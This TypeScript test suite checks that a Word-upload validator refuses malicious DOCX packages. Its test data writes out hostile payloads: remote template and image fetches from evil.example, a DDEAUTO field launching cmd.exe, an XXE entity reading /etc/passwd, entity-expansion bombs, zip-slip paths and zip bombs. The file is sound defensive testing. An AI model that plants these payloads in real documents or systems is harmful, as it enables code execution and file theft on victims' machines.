import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import fc from 'fast-check'
import sharp from 'sharp'
import { AppError } from '../../../kernel/errors.ts'
import { packZip } from '../../../testing/pack-zip.ts'
import { editedDocument, type Edits } from './factory.ts'
import { openPackage } from './open-package.ts'

const RELATIONS = 'word/_rels/document.xml.rels'
const BODY = 'word/document.xml'
const TYPES = '[Content_Types].xml'

const related =
  (type: string, target: string, mode = ' TargetMode="External"') =>
  (text: string) =>
    text.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
    )
const withField = (instruction: string) => (text: string) =>
  text.replace(
    '<w:body>',
    `<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  )
const empty = packZip([{ name: 'a.txt', content: 'a' }])

const hostile: readonly (readonly [string, Edits, string])[] = [
  [
    'a template fetched from elsewhere',
    { [RELATIONS]: related('attachedTemplate', 'http://evil.example/t.dotm') },
    'document.external',
  ],
  [
    'a picture fetched from elsewhere',
    { [RELATIONS]: related('image', 'http://evil.example/p.png') },
    'document.external',
  ],
  ['a picture from a share', { [RELATIONS]: related('image', '\\\\evil.example\\share\\p.png') }, 'document.external'],
  [
    'a share without saying external',
    { [RELATIONS]: related('image', '\\\\evil.example\\p.png', '') },
    'document.external',
  ],
  ['a file of the machine', { [RELATIONS]: related('oleObject', 'file:///etc/passwd') }, 'document.external'],
  ['a link that runs', { [RELATIONS]: related('hyperlink', 'javascript:alert(1)') }, 'document.external'],
  [
    'a link to a file',
    { [RELATIONS]: related('hyperlink', 'file:///c:/windows/system32/calc.exe') },
    'document.external',
  ],
  [
    'a field that starts a program',
    { [BODY]: withField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe') },
    'document.external',
  ],
  ['a field that fetches', { [BODY]: withField(' INCLUDEPICTURE "http://evil.example/p.png"') }, 'document.external'],
  ['a project of macros', { 'word/vbaProject.bin': 'macro' }, 'document.macros'],
  [
    'a document that says it holds macros',
    {
      [TYPES]: (text) => text.replace('wordprocessingml.document.main', 'wordprocessingml.document.macroEnabled.main'),
    },
    'document.macros',
  ],
  ['a control', { 'word/activeX/activeX1.xml': '<a/>' }, 'document.macros'],
  ['an archive within', { 'word/media/more.dat': empty }, 'document.embedded'],
  ['a workbook within', { 'word/embeddings/book.xlsx': empty }, 'document.embedded'],
  [
    'a page taken in',
    { [BODY]: (text) => text.replace('<w:body>', '<w:body><w:altChunk r:id="rId1"/>') },
    'document.embedded',
  ],
  [
    'entities that read files',
    { [BODY]: (text) => text.replace('?>', '?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>') },
    'document.entities',
  ],
  [
    'entities that multiply',
    { 'word/styles.xml': '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>' },
    'document.entities',
  ],
  [
    'entities in another encoding',
    { 'word/styles.xml': Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY a "a">]><a/>', 'utf16le') },
    'document.damaged',
  ],
  ['broken XML', { [BODY]: (text) => text.replace('</w:body>', '') }, 'document.damaged'],
  ['XML without an end to its depth', { [BODY]: '<w:document>'.repeat(5000) }, 'document.damaged'],
  ['a picture that is none', { 'word/media/p.png': 'no picture' }, 'document.damaged'],
  ['no body', { [BODY]: null }, 'document.not-word'],
  ['no list of types', { [TYPES]: null }, 'document.not-word'],
]

const refusal = async (content: Buffer): Promise<string> =>
  openPackage(content).then(
    () => 'taken',
    (error: unknown) => (error instanceof AppError ? error.code : assert.fail(String(error))),
  )

suite('a Word file that comes in', () => {
  for (const [what, edits, code] of hostile)
    test(`is refused with ${what}`, async () => assert.equal(await refusal(await editedDocument(edits)), code))

  test('is refused where a name leads out of it', async () => {
    for (const name of ['../../etc/cron.d/job', '/etc/passwd', 'word\\..\\..\\x', 'C:/x'])
      assert.equal(await refusal(packZip([{ name, content: 'x' }])), 'document.bad-path', name)
  })

  test('is refused where it would burst, before it is unpacked', async () => {
    const zeros = Buffer.alloc(31_000_000)
    const before = process.memoryUsage().rss
    assert.equal(await refusal(await editedDocument({ 'word/zeros.xml': zeros })), 'document.too-large')
    const lying = packZip([{ name: 'word/document.xml', content: zeros, claims: 1000 }])
    assert.equal(await refusal(lying), 'document.damaged')
    const many = Array.from({ length: 2_001 }, (_, index) => ({ name: `word/${index}.xml`, content: '<a/>' }))
    assert.equal(await refusal(packZip(many)), 'document.too-large')
    assert.ok(process.memoryUsage().rss - before < 250_000_000)
  })

  test('is refused with a picture of more dots than paper can show', async () => {
    const picture = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
      .png()
      .toBuffer()
    assert.equal(await refusal(await editedDocument({ 'word/media/p.png': picture })), 'document.picture-too-large')
  })

  test('is refused where it is no Word file at all', async () => {
    assert.equal(await refusal(Buffer.from('%PDF-1.7')), 'document.not-word')
    assert.equal(await refusal(Buffer.alloc(0)), 'document.not-word')
    assert.equal(await refusal(empty), 'document.not-word')
    assert.equal(await refusal(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1])), 'document.not-word')
  })

  test('is taken as the product writes it', async () => assert.equal(await refusal(await editedDocument()), 'taken'))

  test('is taken or refused, and nothing else, however its bytes are damaged', async () => {
    const whole = await editedDocument()
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 20 }),
        async (damages) => {
          const damaged = Buffer.from(whole)
          for (const [at, byte] of damages) damaged[at] = byte
          assert.match(await refusal(damaged), /^taken$|^document\./)
        },
      ),
      { numRuns: 60 },
    )
  })
})
